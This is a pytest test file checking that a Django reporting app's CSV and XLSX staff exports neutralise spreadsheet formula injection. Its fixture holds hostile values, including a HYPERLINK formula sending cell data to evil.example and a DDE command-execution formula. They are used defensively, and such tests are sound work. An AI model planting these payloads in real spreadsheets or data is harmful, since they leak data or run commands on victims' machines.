"""Names are data, never formulas: every CSV and XLSX the reports produce keeps hostile text inert."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command

from tests.reporting.conftest import D

pytestmark = pytest.mark.django_db

HOSTILE = {
    "CB-B": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "CB-C": "=cmd|' /C calc'!A0",
    "CB-E": "+SUM(1,2)",
    "CB-F": "@SUM(A1:A9)",
}
AGENCY = "-1+2 Trung tâm"


@pytest.fixture
def hostile(province):
    from agencies.models import Agency, StaffMember

    for code, name in HOSTILE.items():
        StaffMember.objects.filter(staff_code=code).update(full_name=name, position="\tChuyên viên")
    Agency.objects.filter(code="SKHCN-TT").update(name=AGENCY)
    return province


@pytest.fixture
def admin_client(client, django_user_model, hostile):
    admin = django_user_model.objects.create(username="qt-tinh", email="qt.tinh@nghean.gov.vn", is_superuser=True)
    client.force_login(admin)
    return client


def escaped(value):
    return "'" + value


def assert_csv_safe(content, column_of_names, expected):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig") if isinstance(content, bytes) else content)))
    found = {row[column_of_names] for row in rows[1:]}
    assert {escaped(value) for value in expected} <= found
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def assert_xlsx_safe(content, expected):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    texts, numbers = set(), 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.add(cell.value)
                elif isinstance(cell.value, int | float):
                    numbers += 1
    assert {escaped(value) for value in expected} <= texts
    assert numbers  # figures stay numbers


def test_people_exports_escape_names_and_positions(admin_client):
    response = admin_client.get("/reports/coverage/cbccvc/SKHCN/people.csv", {"date": "01/10/2025"})
    assert_csv_safe(response.content, 1, HOSTILE.values())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert escaped("\tChuyên viên") in {row[3] for row in rows}
    response = admin_client.get("/reports/coverage/cbccvc/SKHCN/people.xlsx", {"date": "01/10/2025"})
    assert_xlsx_safe(response.content, HOSTILE.values())


def test_the_page_shows_the_names_as_they_are(admin_client):
    page = admin_client.get("/reports/coverage/cbccvc/SKHCN/people/", {"date": "01/10/2025"}).content.decode()
    assert "+SUM(1,2)" in page and "'+SUM" not in page


def test_coverage_exports_escape_agency_names(admin_client):
    response = admin_client.get("/reports/coverage.csv", {"target": "cbccvc", "date": "01/10/2025"})
    assert_csv_safe(response.content, 2, [AGENCY])
    response = admin_client.get("/reports/coverage.xlsx", {"target": "cbccvc", "date": "01/10/2025"})
    assert_xlsx_safe(response.content, [AGENCY])


def test_command_exports_escape(hostile, tmp_path):
    out = io.StringIO()
    call_command("coverage_report", "--target", "cbccvc", "--date", D.isoformat(), "--format", "csv", stdout=out)
    assert_csv_safe(out.getvalue().lstrip("\ufeff"), 2, [AGENCY])
    path = tmp_path / "coverage.xlsx"
    call_command(
        "coverage_report", "--target", "cbccvc", "--date", D.isoformat(), "--format", "xlsx", "--output", str(path),
        stdout=io.StringIO(),
    )  # fmt: skip
    assert_xlsx_safe(path.read_bytes(), [AGENCY])


def test_monthly_attachments_escape(hostile, hr_officers, mailoutbox, eager_celery):
    from reporting.emails import send_monthly_summaries

    send_monthly_summaries(D)
    message = next(m for m in mailoutbox if m.to == ["hr.skhcn@nghean.gov.vn"])
    text = message.attachments[0][1]
    text = text.decode("utf-8") if isinstance(text, bytes) else text
    assert_csv_safe(text.lstrip("\ufeff"), 1, HOSTILE.values())
    assert_xlsx_safe(message.attachments[1][1], HOSTILE.values())


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-1+2", "'-1+2"),
        ("\rX", "'\rX"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ("", ""),
        (-5, -5),
        (42.5, 42.5),
        (None, None),
    ],
)
def test_safe_text(value, expected):
    from common.spreadsheets import safe_text

    assert safe_text(value) == expected
